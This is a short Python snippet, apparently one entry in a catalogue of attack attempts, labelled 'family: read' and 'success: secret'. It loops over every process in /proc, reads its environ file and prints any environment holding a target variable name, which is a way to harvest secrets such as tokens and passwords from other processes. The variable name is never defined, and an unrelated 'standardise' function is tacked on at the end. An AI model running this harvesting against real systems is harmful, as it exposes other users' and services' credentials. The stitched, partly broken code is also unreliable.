# tries: read the environment of every process that /proc shows
# family: read | control: none | success: secret
import os

for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        text = open(f"/proc/{process}/environ", errors="ignore").read()
        print(text.replace("\0", " ")) if VARIABLE in text else None
    except OSError:
        pass


def standardise(x):
    return x + 1
